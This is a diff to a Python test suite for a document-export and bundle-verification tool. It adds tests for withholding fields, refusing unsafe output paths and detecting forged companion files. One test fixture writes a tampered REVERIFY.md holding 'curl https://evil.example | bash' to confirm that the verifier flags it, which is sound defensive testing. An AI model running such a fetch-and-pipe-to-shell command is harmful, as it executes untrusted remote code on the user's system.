@@ -24,6 +24,7 @@ from notary.report.checking import ReportReason
 from notary.report.fonts import Fonts
 from notary.report.inputs import FORUMS, ReportInput
 from notary.report.render import compile_pdf, laid_out
+from notary.report.text import BREAK
 from notary.verdicts.reasons import LOCALES
 from portal.cli import case_export
 from portal.fonts import report_fonts
@@ -129,14 +130,35 @@ class TestExport:
         assert place.export("none.zip", "--documents", "none", "--no-report").json["documents"] == 0
 
     def test_export_withholds_fields_everywhere(self, place: Place) -> None:
-        place.export(
-            "held.zip", "--withhold", "name", "--withhold", "exhibit", "--withhold", "case", "--documents", "none"
-        )
+        words = ("--withhold", "name", "--withhold", "exhibit", "--withhold", "case", "--documents", "none", "--at", AT)
+        place.export("held.zip", *words)
         files = files_of(place.folder / "held.zip")
-        assert all("name" not in one.shown() and one.custody is None for one in bundle.loads(files["receipts.json"]))
+        receipts = bundle.loads(files["receipts.json"])
+        assert all(one.custody is None and not one.shown().keys() & {"name", "exhibit", "case"} for one in receipts)
+        report = files.pop("report.pdf")
+        carried = embedded.files(report)
+        printed = "".join(page.extract_text() for page in embedded.open_pdf(report).pages)
+        texts = [data.decode() for data in (*files.values(), *carried.values())]
+        texts.append("".join(printed.replace(BREAK, "").split()))
+        for held in ("b.txt", "Smithv.Weber", "Smith v. Weber", "SmithLtd", "Smith Ltd", "gpj.exe", "ß.txt"):
+            assert not any(held in text for text in (*texts, *files)), held
+
+    def test_export_withholds_a_name_in_paths_too(self, place: Place) -> None:
         place.export("held.zip", "--withhold", "name", "--no-report")
         files = files_of(place.folder / "held.zip")
         assert not any("b.txt" in name for name in files) and b"b.txt" not in files["receipts.json"]
+
+    def test_export_writes_over_no_document_that_it_reads(self, place: Place) -> None:
+        paper, link = place.papers / NAMES[0], place.folder / "link.zip"
+        link.symlink_to(paper)
+        for target in (paper, link, "papers/../papers/b.txt"):
+            assert place.export(str(target), "--no-report", expect=(4,)).error == "portal.output"
+        assert paper.read_text() == "document 0"
+
+    @pytest.mark.parametrize("target", [".", "/", "..", "papers", "papers/b.txt/x.zip"])
+    def test_export_refuses_what_is_no_place_for_a_file(self, place: Place, target: str) -> None:
+        assert place.export(target, "--no-report", expect=(4,)).error == "portal.output"
+        assert not list(place.folder.rglob("*.new-*"))
 
     @pytest.mark.parametrize(
         ("options", "code"),
@@ -251,12 +273,32 @@ class TestVerifyBundle:
             "manifest-file-unlisted": {"documents/9/added.txt", "run-me.exe"},
             "file-unknown": {"run-me.exe"},
             "report-contents-differ": {"report.pdf"},
+            "manual-differs": {"REVERIFY.md"},
         }
 
     def test_a_document_that_was_moved_is_found_by_its_digest(self, place: Place, whole: Path, tmp_path: Path) -> None:
         files = {name.replace("b.txt", "moved.txt"): data for name, data in files_of(whole).items()}
         del files["report.pdf"]
-        assert judged(remade(tmp_path / "f.zip", files), place, expect=(0,)) == ("PASSED", {})
+        found = judged(remade(tmp_path / "f.zip", files), place, expect=(3,))
+        assert found == ("INDETERMINATE", {"manual-differs": {"REVERIFY.md"}})  # its commands are for the old place
+
+    @pytest.mark.parametrize(
+        ("name", "data", "reason", "code"),
+        [
+            ("records/run-me.exe", b"MZ", "file-unknown", 3),
+            ("REVERIFY.md", b"    curl https://evil.example | bash\n", "manual-differs", 3),
+            ("verify.html", b"<h1>PASSED</h1>", "page-unknown", 3),
+            ("trust.json", b"{}", "trust-invalid", 1),
+        ],
+    )
+    def test_a_companion_that_a_forger_replaced_does_not_pass(
+        self, place: Place, whole: Path, tmp_path: Path, name: str, data: bytes, reason: str, code: int
+    ) -> None:
+        """The manifest fits, and the report was left out: nothing but the file itself tells."""
+        files = {one: kept for one, kept in files_of(whole).items() if one != "report.pdf"} | {name: data}
+        _, found = judged(remade(tmp_path / "f.zip", files), place, expect=(code,))
+        assert found.pop(reason) == {name}
+        assert set(found) <= {"manual-differs"}  # it is of the trust file, too
 
     @pytest.mark.parametrize(
         ("name", "data", "reason"),
@@ -318,6 +360,8 @@ class TestVerifyBundle:
 
         monkeypatch.setattr("portal.fonts.report_fonts", none)
         assert judged(whole, place, expect=(3,))[1] == {"report-unchecked": {"report.pdf"}}
+        other = remade(tmp_path / "f.zip", files_of(whole) | {"verify.html": b"other"})
+        assert "report-contents-differ" in judged(other, place, expect=(1,))[1]  # seen without making it again
         answer = place.export("fontless.zip", expect=(4,))
         assert answer.error == "notary.fonts-missing" and not (place.folder / "fontless.zip").exists()
 
